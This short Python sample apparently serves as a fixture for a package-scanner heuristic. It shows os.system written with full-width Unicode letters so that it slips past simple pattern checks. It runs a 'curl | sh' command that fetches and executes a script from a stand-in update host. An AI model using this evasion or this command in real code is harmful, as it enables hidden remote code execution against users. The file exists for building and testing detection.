# technique: os.system with a full-width attribute name
# class: nfkc
# source: GuardDog rule docs ("unicode" heuristic), after Phylum's onyxproxy analysis
# declares: network
import os


def update():
    os.ｓｙｓｔｅｍ("curl -s https://cdn.example-updates.com/u.sh | sh")
